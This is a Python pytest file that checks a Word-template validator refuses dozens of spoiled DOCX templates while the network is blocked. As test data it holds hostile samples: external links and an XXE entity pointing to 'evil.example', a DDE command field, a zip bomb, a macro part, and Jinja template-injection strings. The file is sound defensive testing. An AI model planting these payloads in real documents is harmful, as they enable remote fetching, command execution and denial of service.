"""The template of every kind, spoiled in every way: refused with its place, and nothing is fetched or printed from it."""

from __future__ import annotations

import io
import socket
import zipfile
from collections.abc import Callable

import pytest
from docx import Document as Word

from adapters.documents import Problem, check, check_template, template_for
from processes.documents.kinds import KINDS
from web.phrases.templates import PROBLEMS, problem_words

_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OUTSIDE = "https://evil.example/x"


def _parts(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def _with(docx: bytes, name: str, data: bytes) -> bytes:
    return _packed(_parts(docx) | {name: data})


def _linked(type_: str, mode: str = ' TargetMode="External"') -> Callable[[bytes], bytes]:
    link = f'<Relationship Id="evil1" Type="{_OFFICE}/{type_}" Target="{_OUTSIDE}"{mode}/></Relationships>'

    def spoiled(docx: bytes) -> bytes:
        name = "word/_rels/document.xml.rels"
        return _with(docx, name, _parts(docx)[name].replace(b"</Relationships>", link.encode()))

    return spoiled


def _body(before: bytes) -> Callable[[bytes], bytes]:
    """A paragraph at the beginning of the text."""
    name = "word/document.xml"
    return lambda docx: _with(
        docx, name, _parts(docx)[name].replace(b"<w:body>", b"<w:body><w:p>" + before + b"</w:p>")
    )


def _line(text: str) -> Callable[[bytes], bytes]:
    return _body(f"<w:r><w:t>{text}</w:t></w:r>".encode())


def _prefixed(name: str, text: bytes) -> Callable[[bytes], bytes]:
    def spoiled(docx: bytes) -> bytes:
        head, mark, rest = _parts(docx)[name].partition(b"?>")
        return _with(docx, name, head + mark + text + rest)

    return spoiled


def _twice(docx: bytes) -> bytes:
    out = io.BytesIO(docx)
    with zipfile.ZipFile(out, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", b"<other/>")
    return out.getvalue()


def _locked(docx: bytes) -> bytes:
    """As if packed under a password: the bit that says so, in both headers of every part."""
    made = bytearray(docx)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(mark, at + 1)
    return bytes(made)


def _spreadsheet(docx: bytes) -> bytes:
    parts = _parts(docx)
    types = parts["[Content_Types].xml"].replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
    return _packed(parts | {"[Content_Types].xml": types})


_DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b SYSTEM "https://evil.example/x">]>'
_SIMPLE = f'<w:fldSimple w:instr="INCLUDEPICTURE {_OUTSIDE}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'.encode()
_SPLIT = b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd x</w:instrText></w:r>"
ATTACKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "cut in half": (lambda docx: docx[: len(docx) // 2], "not_word"),
    "no zip": (lambda docx: b"PK" + docx[2:60], "not_word"),
    "a spreadsheet": (_spreadsheet, "not_word"),
    "without its text": (
        lambda docx: _packed({n: d for n, d in _parts(docx).items() if "document.xml" not in n}),
        "not_word",
    ),
    "broken XML": (lambda docx: _with(docx, "word/document.xml", b"<w:document"), "not_word"),
    "a foreign root": (lambda docx: _with(docx, "word/document.xml", b"<svg/>"), "not_word"),
    "a part twice": (_twice, "not_word"),
    "under a password": (_locked, "not_word"),
    "entities": (_prefixed("word/document.xml", _DTD), "not_word"),
    "a zip bomb": (lambda docx: _with(docx, "word/media/big.bin", bytes(2_000_000)), "too_large"),
    "macros": (lambda docx: _with(docx, "word/vbaProject.bin", b"x"), "macros"),
    "a picture from outside": (_linked("image"), "outside_link"),
    "a template from outside": (_linked("attachedTemplate"), "outside_link"),
    "a frame, in another spelling": (_linked("frame", ' TargetMode="external"'), "outside_link"),
    "an object of another program": (_linked("oleObject", ""), "embedded"),
    "a page of another form": (_linked("aFChunk", ""), "embedded"),
    "a field that fetches": (_body(_SIMPLE), "outside_field"),
    "a field in two pieces": (_body(_SPLIT), "outside_field"),
    "an unknown name": (_line("{{ secret }}"), "unknown_name"),
    "an unknown part": (_line("{{ rules.secret }}"), "unknown_field"),
    "a broken condition": (_line("{% if draft %}"), "syntax"),
    "a thousand brackets": (_line("{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}"), "syntax"),
    "Python's inside": (_line("{{ rules.__class__ }}"), "underscore"),
    "a text that doubles": (_line("{% set a = rules %}" + "{% set a = a ~ a %}" * 40), "forbidden"),
    "a text joined by itself": (_line("{{ rules|join(rules)|join(rules) }}"), "forbidden"),
    "loops in loops": (_line("{% for a in rules %}" * 9 + "{% endfor %}" * 9), "forbidden"),
}


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_spoiled_template_of_every_kind_is_refused(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def asked(*_: object) -> None:
        raise AssertionError("something outside is asked")

    monkeypatch.setattr(check, "LARGEST_UNPACKED", 2_000_000)
    monkeypatch.setattr(socket.socket, "connect", asked)
    monkeypatch.setattr(socket, "getaddrinfo", asked)
    ours = template_for(kind)
    for name, (spoil, code) in ATTACKS.items():
        found = check_template(spoil(ours), kind)
        assert {each.code for each in found} == {code}, name
        for each in found:
            said = problem_words(each.code, each.where, each.detail, each.near)
            assert said and "{" not in said.replace(each.near, "").replace(each.detail[:80], ""), name


def test_every_problem_is_tried_or_needs_an_edited_line() -> None:
    assert set(PROBLEMS) - {code for _, code in ATTACKS.values()} == {"unknown_filter", "fails"}


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_template_of_another_kind_is_refused_or_asks_for_nothing_else(kind: str) -> None:
    """Every field of a foreign template that this kind has not is named."""
    other = "programme" if kind != "programme" else "order_assignment"
    found = check_template(template_for(other), kind)
    assert {each.code for each in found} <= {"unknown_name", "unknown_field"} and found


def test_a_link_to_read_is_no_request_and_is_taken() -> None:
    assert check_template(_linked("hyperlink")(template_for("consent")), "consent") == []


def test_a_word_file_edited_as_usual_is_taken() -> None:
    word = Word(io.BytesIO(template_for("consent")))
    word.add_paragraph("{% for each in signatures %}{{ each.person.name|initials }} {% endfor %}")
    out = io.BytesIO()
    word.save(out)
    assert check_template(out.getvalue(), "consent") == list[Problem]()
